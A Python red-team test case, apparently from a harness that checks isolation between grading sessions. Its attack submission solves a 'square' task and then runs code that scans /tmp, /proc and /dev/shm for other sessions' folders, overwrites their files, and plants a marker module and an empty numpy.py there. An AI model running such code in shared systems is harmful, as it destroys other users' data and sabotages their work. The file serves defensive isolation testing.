"""Looks for the working folders of other sessions, and replaces what it finds there.

Success: a neighbor's own module or data is replaced, so that it loses points or shows a trace.
"""

from tests.red_team.submission import MARK

ALONE = True
DESERVES = ["square"]


def attack(submission):
    submission.solve("square")
    submission.first(
        f"""
        import glob, os, time

        places = ["/tmp/*", "/tmp/*/*", "/proc/*/cwd/*", "/proc/*/root/tmp/*/*", "/dev/shm/*"]
        own = os.path.realpath(".")
        for _ in range(40):
            for place in places:
                for path in glob.glob(place, include_hidden=True):
                    if os.path.realpath(path).startswith(own):
                        continue
                    try:
                        if os.path.isdir(path):
                            open(path + "/{MARK}.py", "w").close()
                            open(path + "/numpy.py", "w").close()
                        else:
                            with open(path, "w") as file:
                                file.write("{MARK}")
                    except OSError:
                        pass
            time.sleep(0.3)
    """
    )
